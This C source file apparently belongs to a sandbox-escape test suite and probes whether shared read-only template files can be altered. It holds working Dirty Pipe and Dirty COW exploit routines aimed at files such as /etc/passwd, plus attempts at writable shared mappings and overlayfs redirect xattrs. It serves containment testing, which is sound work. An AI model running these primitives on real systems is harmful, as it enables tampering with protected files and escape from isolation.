/* The template is one tree for all sandboxes, and its pages are shared: whoever changes a page of
 * it without a copy has changed it for everybody. The files are opened for reading only, as a
 * program that may not write them would; that the neighbours' view did not change is looked at from
 * there. */
#include "attack/attack.h"

#include <pthread.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/xattr.h>

enum {
	RACE_MS = 150,
	TARGET_MAX = 64 << 10,
};

struct target {
	const char *path;
	int fd;
	struct buf before;
};

static const char *const candidates[] = { "/usr/lib/os-release", "/etc/debian_version",
	"/etc/passwd", "/etc/services" };

static bool target_open(struct target *t)
{
	t->before = BUF_INIT(TARGET_MAX);
	for (size_t i = 0; i < ARRAY_SIZE(candidates); i++) {
		t->path = candidates[i];
		t->fd = open(t->path, O_RDONLY | O_CLOEXEC);
		if (t->fd < 0)
			continue;
		if (file_read(AT_FDCWD, t->path, &t->before, NULL) >= 0 && t->before.n > 16)
			return true;
		(void)close(t->fd);
		buf_clear(&t->before);
	}
	t->fd = -EBADF;
	return false;
}

static void target_done(struct target *t)
{
	if (t->fd >= 0)
		(void)close(t->fd);
	buf_done(&t->before);
}

/* Through a descriptor of its own, so that nothing of ours is in between. */
static void judge_target(const struct target *t, const char *what, struct finding *f)
{
	CLEANUP(buf_done) struct buf after = BUF_INIT(TARGET_MAX);

	if (file_read(AT_FDCWD, t->path, &after, NULL) < 0)
		return;
	if (str_eq(buf_str(&after), buf_str(&t->before)))
		contained(f, "%s left %s as it was", what, t->path);
	else
		escaped(f, "%s changed %s, which was open for reading only", what, t->path);
}

/* A pipe whose pages were once filled may be written further; pages that were spliced in must not
 * inherit that. */
static void dirty_pipe(const struct attempt *a, const struct scene *scene, struct finding *f)
{
	CLEANUP(target_done) struct target t = { .fd = -EBADF };
	static char filler[4096];
	loff_t at = 1;
	int pipe_fds[2], size, left;
	bool spliced;

	(void)a;
	(void)scene;
	if (!target_open(&t) || pipe2(pipe_fds, O_CLOEXEC) < 0)
		return;
	size = fcntl(pipe_fds[1], F_GETPIPE_SZ);
	for (left = size; left > 0; left -= (int)sizeof filler)
		(void)!write(pipe_fds[1], filler, sizeof filler);
	for (left = size; left > 0; left -= (int)sizeof filler)
		(void)!read(pipe_fds[0], filler, sizeof filler);
	spliced = splice(t.fd, &at, pipe_fds[1], NULL, 1, 0) == 1;
	if (!spliced && is_own_kernel(f))
		absent(f, "this kernel does not splice such files");
	else if (!spliced)
		inconclusive(f, "splice: %s", strerrordesc_np(errno));
	else if (write(pipe_fds[1], "atoll-probe", 11) != 11)
		inconclusive(f, "write behind the page: %s", strerrordesc_np(errno));
	(void)close(pipe_fds[0]);
	(void)close(pipe_fds[1]);
	if (spliced)
		judge_target(&t, "writing behind a spliced page", f);
}

struct race {
	char *page;
	size_t size;
	int64_t until_ms;
};

static void *race_forget(void *arg)
{
	const struct race *race = arg;

	while (time_now_ms() < race->until_ms)
		(void)madvise(race->page, race->size, MADV_DONTNEED);
	return NULL;
}

/* Writing a private mapping by /proc/self/mem makes a copy; a race must not lose the copy in
 * between. */
static void dirty_cow(const struct attempt *a, const struct scene *scene, struct finding *f)
{
	CLEANUP(target_done) struct target t = { .fd = -EBADF };
	struct race race = { .size = 4096, .until_ms = time_now_ms() + RACE_MS };
	int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	pthread_t thread;
	int written = 0;

	(void)a;
	(void)scene;
	if (memory < 0)
		judge_path_error(f, errno, "/proc/self/mem");
	if (!target_open(&t) || memory < 0)
		return;
	race.page = mmap(NULL, race.size, PROT_READ, MAP_PRIVATE, t.fd, 0);
	if (race.page == MAP_FAILED || pthread_create(&thread, NULL, race_forget, &race) != 0)
		return;
	while (time_now_ms() < race.until_ms)
		written += pwrite(memory, "atoll-probe", 11, (off_t)(uintptr_t)race.page) == 11;
	(void)pthread_join(thread, NULL);
	(void)munmap(race.page, race.size);
	(void)close(memory);
	if (written == 0 && is_own_kernel(f))
		absent(f, "this kernel does not write /proc/self/mem");
	else if (written == 0)
		inconclusive(f, "/proc/self/mem was never written: no race");
	else
		judge_target(&t, "racing a private copy", f);
}

static void map_shared(const struct attempt *a, const struct scene *scene, struct finding *f)
{
	CLEANUP(target_done) struct target t = { .fd = -EBADF };
	char *page;

	(void)a;
	(void)scene;
	if (!target_open(&t))
		return;
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, t.fd, 0);
	if (page == MAP_FAILED) {
		refused_with(f, errno, "map %s shared and writable", t.path);
	} else {
		escaped(f, "%s can be mapped for writing", t.path);
		(void)munmap(page, 4096);
	}
	page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, t.fd, 0);
	if (page == MAP_FAILED)
		inconclusive(f, "map %s for reading: %s", t.path, strerrordesc_np(errno));
	else if (mprotect(page, 4096, PROT_READ | PROT_WRITE) == 0)
		escaped(f, "a read-only mapping of %s became writable", t.path);
	else
		refused_with(f, errno, "make a shared mapping of %s writable", t.path);
	if (page != MAP_FAILED)
		(void)munmap(page, 4096);
}

/* Marks by which overlayfs knows what lies below: whoever may set them redirects the tree. */
static void redirect(const struct attempt *a, const struct scene *scene, struct finding *f)
{
	static const char *const names[] = { "trusted.overlay.opaque", "trusted.overlay.redirect",
		"trusted.overlay.metacopy" };
	char dir[] = "/tmp/atoll-probe-XXXXXX";

	(void)a;
	(void)scene;
	if (!mkdtemp(dir))
		return;
	for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
		if (setxattr(dir, names[i], "/", 1, 0) < 0)
			refused_with(f, errno, "set %s", names[i]);
		else
			escaped(f, "%s can be set", names[i]);
	}
	(void)rmdir(dir);
}

static const char *const own_memory[] = { "/proc/self/mem", NULL };

static const struct attempt attempts[] = {
	{ "dirty-pipe", "write a shared page behind a splice", dirty_pipe, NULL, NULL, NULL },
	{ "dirty-cow", "write a shared page by a race for its copy", dirty_cow, by_rights,
		own_memory, NULL },
	{ "map", "map a file of the template for writing", map_shared, by_rights_or_read_only, NULL,
		NULL },
	{ "redirect", "redirect the overlay by its own marks", redirect, by_filter, NULL, NULL },
};
FAMILY(layers, attempts);
